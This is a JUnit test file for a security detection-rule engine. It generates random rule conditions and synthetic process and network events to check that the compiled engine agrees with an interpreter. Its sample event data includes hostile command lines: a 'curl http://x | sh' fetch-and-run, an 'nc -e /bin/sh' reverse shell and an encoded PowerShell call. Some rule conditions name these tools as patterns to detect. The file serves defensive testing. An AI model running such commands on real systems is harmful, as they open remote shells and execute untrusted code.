package io.tocsin.engine;

import static org.assertj.core.api.Assertions.assertThat;

import io.tocsin.model.Event;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;

/**
 * Golden agreement on generated input: hundreds of conditions mixing every operator family, nested
 * and/or/not (so the planner's DNF, {@code in} expansion, hashing and pre-filter all take part),
 * against generated events with missing fields, arrays and odd types.
 */
class GoldenAgreementTest {

  private static final String[] NAMES = {"cmd.exe", "powershell.exe", "CMD.EXE", "bash", "nc"};
  private static final String[] USERS = {"alice", "bob", "svc_backup", "root"};
  private static final String[] LINES = {
    "powershell -nop -enc AAA",
    "bash -c 'curl http://x | sh'",
    "cmd /c whoami",
    "nc -e /bin/sh 1.2.3.4"
  };

  private static String atom(Random r) {
    return switch (r.nextInt(14)) {
      case 0 -> "process.name == '" + pick(r, NAMES) + "'";
      case 1 -> "process.name in ('" + pick(r, NAMES) + "', '" + pick(r, NAMES) + "')";
      case 2 -> "user.name != '" + pick(r, USERS) + "'";
      case 3 -> "process.command_line contains '" + pick(r, "-nop", "curl", "whoami", "/bin") + "'";
      case 4 -> "process.command_line icontains '" + pick(r, "POWERSHELL", "Bash", "CMD") + "'";
      case 5 -> "process.name istartswith '" + pick(r, "cmd", "POW", "ba") + "'";
      case 6 -> "file.size > " + r.nextInt(200) + "MB";
      case 7 -> "network.destination.port in (22, 443, " + (4000 + r.nextInt(1000)) + ")";
      case 8 -> "network.source.ip in 10.0.0.0/8";
      case 9 -> "process.hash exists";
      case 10 -> "process.cmd contains '" + pick(r, "-nop", "-c", "/c") + "'";
      case 11 -> "file.path glob '/tmp/**/*." + pick(r, "sh", "py") + "'";
      case 12 -> "lower(process.name) == 'cmd.exe'";
      default -> "process.command_line matches '(?i)-(e|enc)\\s'";
    };
  }

  private static String condition(Random r, int depth) {
    if (depth == 0 || r.nextInt(3) == 0) {
      return r.nextInt(6) == 0 ? "not " + atom(r) : atom(r);
    }
    String op = r.nextBoolean() ? " and " : " or ";
    return "(" + condition(r, depth - 1) + op + condition(r, depth - 1) + ")";
  }

  private static Event event(Random r, int i) {
    List<Object> kv = new ArrayList<>();
    if (r.nextInt(4) > 0) {
      kv.addAll(List.of("process.name", pick(r, NAMES)));
    }
    if (r.nextInt(3) > 0) {
      kv.addAll(List.of("user.name", pick(r, USERS)));
    }
    if (r.nextBoolean()) {
      String line = pick(r, LINES);
      kv.addAll(List.of("process.command_line", line, "process.cmd", List.of(line.split(" "))));
    }
    if (r.nextBoolean()) {
      kv.addAll(
          List.of(
              "file.size", r.nextBoolean() ? (long) r.nextInt(300) << 20 : r.nextDouble() * 3e8));
    }
    if (r.nextBoolean()) {
      kv.addAll(List.of("network.destination.port", (long) pick(r, 22, 443, 4444, 4500, 8080)));
    }
    if (r.nextBoolean()) {
      kv.addAll(List.of("network.source.ip", pick(r, "10.1.1.1", "192.168.0.1", "::1")));
    }
    if (r.nextInt(4) == 0) {
      kv.addAll(List.of("process.hash", "h" + i));
    }
    if (r.nextBoolean()) {
      kv.addAll(List.of("file.path", pick(r, "/tmp/a/b.sh", "/tmp/x.py", "/home/u/a.sh")));
    }
    return Fixtures.event(i, kv.toArray());
  }

  @SafeVarargs
  private static <T> T pick(Random r, T... values) {
    return values[r.nextInt(values.length)];
  }

  @Test
  void engineAgreesWithTheInterpreterOnGeneratedConditionsAndEvents() {
    Random r = new Random(20261122);
    List<String> conditions = new ArrayList<>();
    for (int i = 0; i < 300; i++) {
      conditions.add(condition(r, 3));
    }
    List<Event> events = new ArrayList<>();
    for (int i = 0; i < 300; i++) {
      events.add(event(r, i));
    }
    List<List<Integer>> hits = Agreement.check(conditions, events, Map.of());
    long total = hits.stream().mapToLong(List::size).sum();
    assertThat(total).as("the generated data must exercise matches").isGreaterThan(1_000);
  }
}
